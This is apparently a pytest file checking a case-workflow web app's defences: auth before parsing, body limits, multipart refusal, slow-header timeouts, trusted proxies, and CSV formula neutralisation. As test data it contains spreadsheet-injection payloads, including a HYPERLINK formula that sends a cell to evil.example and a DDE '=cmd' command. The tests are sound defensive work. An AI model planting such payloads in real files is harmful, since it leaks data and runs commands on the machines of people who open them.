"""The doors of issue 23 item 7: authenticate before parsing, bounded bodies, no multipart,
connection timeouts, forwarded headers only from trusted proxies, and CSV cells a spreadsheet
would run neutralised in every CSV a person opens."""

from __future__ import annotations

import csv
import io
import re
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from web_support import PASSWORD, WebWorld, alert_data, build

from icsflow.storage.audit import AuditStore
from icsflow.workflow import Actor, Engine, FakeClock
from icsflow.workflow.cli import cli
from icsflow.workflow.web import WebSettings

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture()
def world(tmp_path: Path) -> Iterator[WebWorld]:
    w = build(tmp_path)
    yield w
    w.engine.close()


def anonymous(world: WebWorld) -> TestClient:
    return TestClient(world.app, follow_redirects=False)


def signed_in(world: WebWorld, name: str = "admin") -> TestClient:
    c = anonymous(world)
    form = c.get("/login").text
    token = re.search(r'name="csrf_token" value="([^"]+)"', form)
    assert token
    assert c.post("/login", data={"username": name, "password": PASSWORD, "next": "/",
                                  "csrf_token": token.group(1)}).status_code == 303
    return c


def csrf(c: TestClient) -> str:
    token = re.search(r'name="csrf_token" value="([^"]+)"', c.get("/").text)
    assert token
    return token.group(1)


@pytest.mark.parametrize(("method", "path", "extra"), [
    ("GET", "/api/cases?limit=abc", {}),
    ("GET", "/api/cases?limit=999999999&overdue=maybe", {}),
    ("GET", "/api/reports?from=not-a-date", {}),
    ("POST", "/api/cases/x/events/respond", {"content": b"{not json",
                                             "headers": {"content-type": "application/json"}}),
    ("POST", "/api/cases/x/events/respond", {"json": {"data": "not a mapping",
                                                      "row_version": -5}}),
    ("GET", "/api/openapi.json", {}),
])
def test_anonymous_malformed_api_requests_get_401_never_422(
        world: WebWorld, method: str, path: str, extra: dict[str, object]) -> None:
    r = anonymous(world).request(method, path, **extra)  # type: ignore[arg-type]
    assert r.status_code == 401
    assert "integer" not in r.text and "loc" not in r.text  # no schema types leak


def test_anonymous_malformed_page_requests_go_to_the_sign_in(world: WebWorld) -> None:
    c = anonymous(world)
    for r in (c.get("/reports?from=bad&as_at=9999-99-99"),
              c.post("/cases/x/events/respond", content=b"\xff" * 100,
                     headers={"content-type": "multipart/form-data; boundary=x"})):
        assert r.status_code == 303 and r.headers["location"].startswith("/login?next=")


def test_a_signed_in_malformed_request_still_gets_422(world: WebWorld) -> None:
    h = {"Authorization": f"Bearer {world.tokens['admin']}"}
    assert anonymous(world).get("/api/cases?limit=abc", headers=h).status_code == 422


def test_multipart_is_refused_everywhere_and_never_stored_as_case_data(
        world: WebWorld) -> None:
    c = signed_in(world, "tm")
    r = c.post(f"/cases/{world.overdue_id}/events/respond",
               data={"csrf_token": csrf(c)}, files={"response": ("x.txt", b"hello")})
    assert r.status_code == 415
    assert world.engine.get(world.overdue_id).state == "alert"
    login = anonymous(world).post("/login", files={"username": ("u", b"tm")})
    assert login.status_code == 415
    api = anonymous(world).post(f"/api/cases/{world.overdue_id}/events/respond",
                                files={"data": ("d", b"{}")},
                                headers={"Authorization": f"Bearer {world.tokens['tm']}"})
    assert api.status_code == 415
    assert "UploadFile" not in str(world.engine.get(world.overdue_id).data)


def test_each_route_takes_one_content_type(world: WebWorld) -> None:
    h = {"Authorization": f"Bearer {world.tokens['tm']}"}
    r = anonymous(world).post(f"/api/cases/{world.overdue_id}/events/respond",
                              content=b"data=x", headers={
                                  **h, "content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 415 and "application/json" in r.json()["error"]


def test_a_body_larger_than_its_route_takes_is_refused_unread(world: WebWorld) -> None:
    h = {"Authorization": f"Bearer {world.tokens['tm']}"}
    big = {"data": {"response": "x" * (70 * 1024)}}
    r = anonymous(world).post(f"/api/cases/{world.overdue_id}/events/respond", json=big,
                              headers=h)
    assert r.status_code == 413
    login = anonymous(world).post("/login", data={"username": "x" * 9000})
    assert login.status_code == 413


def test_a_streamed_body_is_cut_at_its_routes_limit(world: WebWorld) -> None:
    h = {"Authorization": f"Bearer {world.tokens['tm']}", "content-type": "application/json"}

    def chunks() -> Iterator[bytes]:
        yield b'{"data": {"response": "'
        for _ in range(100):
            yield b"x" * 1024
        yield b'"}}'

    r = anonymous(world).post(f"/api/cases/{world.overdue_id}/events/respond",
                              content=chunks(), headers=h)
    assert r.status_code == 413
    assert world.engine.get(world.overdue_id).state == "alert"


def test_forwarded_headers_are_believed_only_from_a_trusted_proxy(tmp_path: Path) -> None:
    w = build(tmp_path, WebSettings(secret=b"s" * 32, trusted_proxies=("10.0.0.0/8",)))
    try:
        h = {"Authorization": f"Bearer {w.tokens['admin']}", "X-Forwarded-For": "192.0.2.77"}
        TestClient(w.app, client=("198.51.100.5", 1)).get("/children/CH-1", headers=h)
        TestClient(w.app, client=("10.0.0.9", 1)).get("/children/CH-1", headers=h)
        ips = [r.entry.ip for r in AuditStore(w.users.sql).rows(kinds=("read",))]
        assert ips == ["198.51.100.5", "192.0.2.77"]
    finally:
        w.engine.close()


def test_loopback_is_not_trusted_by_default(world: WebWorld) -> None:
    h = {"Authorization": f"Bearer {world.tokens['admin']}", "X-Forwarded-For": "192.0.2.77"}
    TestClient(world.app, client=("127.0.0.1", 1)).get("/children/CH-1", headers=h)
    [row] = AuditStore(world.users.sql).rows(kinds=("read",))
    assert row.entry.ip == "127.0.0.1"


# -- connections -----------------------------------------------------------------------------

@pytest.fixture()
def server(tmp_path: Path) -> Iterator[tuple[int, WebWorld]]:
    import uvicorn

    from icsflow.workflow.web.server import TimedH11Protocol, server_config

    class Quick(TimedH11Protocol):
        header_timeout = 0.5

    world = build(tmp_path)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = int(s.getsockname()[1])
    config = server_config(world.app, "127.0.0.1", port)
    config.http = Quick
    srv = uvicorn.Server(config)
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not srv.started and time.monotonic() < deadline:
        time.sleep(0.02)
    yield port, world
    srv.should_exit = True
    thread.join(timeout=10)
    world.engine.close()


def _closed_within(sock: socket.socket, seconds: float) -> bool:
    sock.settimeout(seconds)
    try:
        return sock.recv(1024) == b""
    except TimeoutError:
        return False
    except ConnectionResetError:
        return True


def test_a_connection_that_sends_no_headers_is_closed(server: tuple[int, WebWorld]) -> None:
    port, _ = server
    with socket.create_connection(("127.0.0.1", port)) as sock:
        assert _closed_within(sock, 5)


def test_headers_trickled_slowly_do_not_keep_a_connection_open(
        server: tuple[int, WebWorld]) -> None:
    port, _ = server
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.sendall(b"GET /healthz HTTP/1.1\r\n")
        closed = False
        for n in range(20):  # one header line every 0.2 s: never finishes within 0.5 s
            try:
                sock.sendall(f"X-Slow-{n}: y\r\n".encode())
            except (BrokenPipeError, ConnectionResetError):
                closed = True
                break
            time.sleep(0.2)
        assert closed or _closed_within(sock, 2)


def test_a_prompt_request_on_the_same_server_is_answered(server: tuple[int, WebWorld]) -> None:
    port, _ = server
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        sock.settimeout(5)
        assert sock.recv(1024).startswith(b"HTTP/1.1 200")


# -- CSV a spreadsheet opens -----------------------------------------------------------------

def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_today_csv_neutralises_a_formula_typed_into_a_case(tmp_path: Path) -> None:
    w = build(tmp_path)
    try:
        w.engine.start("alert_dispute", ref=FORMULA, data=alert_data(1),
                       actor=Actor("iro", "iro"), child="-2+3", at=alert_clock())
        text = signed_in(w).get("/today.csv").text
        cells = [c for row in _rows(text) for c in row]
        assert "'" + FORMULA in cells and "'-2+3" in cells
        assert FORMULA not in cells and not any(c.startswith(("=", "+", "@")) for c in cells)
        assert any(re.fullmatch(r"-\d+", c) for c in cells)  # working days overdue: numbers
    finally:
        w.engine.close()


def _cli_db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    engine = Engine.open(db=url, clock=FakeClock(alert_clock()))
    try:
        engine.start("alert_dispute", ref="@SUM(1+1)", data=alert_data(3),
                     actor=Actor("iro", "iro"), child="=cmd|'/c_calc'!A1")
    finally:
        engine.close()
    return url


def alert_clock():  # type: ignore[no-untyped-def]
    from datetime import UTC, datetime

    return datetime(2011, 12, 1, 10, 0, tzinfo=UTC)


def test_list_and_audit_csv_neutralise_formula_cells(tmp_path: Path) -> None:
    url = _cli_db(tmp_path)
    listed = CliRunner().invoke(cli, ["--db", url, "list", "--format", "csv"])
    assert listed.exit_code == 0, listed.output
    assert "'@SUM(1+1)" in [c for row in _rows(listed.stdout) for c in row]
    audited = CliRunner().invoke(cli, ["--db", url, "audit", "--format", "csv"])
    cells = [c for row in _rows(audited.stdout) for c in row]
    assert "'=cmd|'/c_calc'!A1" in cells and not any(c.startswith("=") for c in cells)


def test_report_csv_neutralises_a_chair_named_like_a_formula(world: WebWorld) -> None:
    from icsflow.workflow.reports import Window, build_report
    from icsflow.workflow.reports.render import to_csv

    window = Window.resolve(start=None, end=None, as_at=None, known_at=None,
                            today=alert_clock().date(), tz=world.engine.calendar.tz)
    report = build_report(world.engine.store.engine, window)
    shape = report.to_json()
    shape["caseloads"]["chairs"] = {"=1+1": 3}

    class Shaped:
        def to_json(self) -> dict[str, object]:
            return shape

    cells = [c for row in _rows(to_csv(Shaped())) for c in row]  # type: ignore[arg-type]
    assert "'=1+1" in cells and "=1+1" not in cells


def test_the_canonical_export_is_neutralised_and_the_import_restores_it(
        tmp_path: Path) -> None:
    url = _cli_db(tmp_path)
    out = tmp_path / "export.csv"
    exported = CliRunner().invoke(cli, ["--db", url, "export", str(out)])
    assert exported.exit_code == 0, exported.output
    cells = [c for row in _rows(out.read_text()) for c in row]
    assert "'@SUM(1+1)" in cells and "'=cmd|'/c_calc'!A1" in cells
    again = f"sqlite:///{tmp_path / 'again.db'}"
    imported = CliRunner().invoke(cli, ["--db", again, "import", str(out)])
    assert imported.exit_code == 0, imported.output
    engine = Engine.open(db=again)
    try:
        [case] = engine.list()
        assert case.ref == "@SUM(1+1)" and case.child == "=cmd|'/c_calc'!A1"
    finally:
        engine.close()
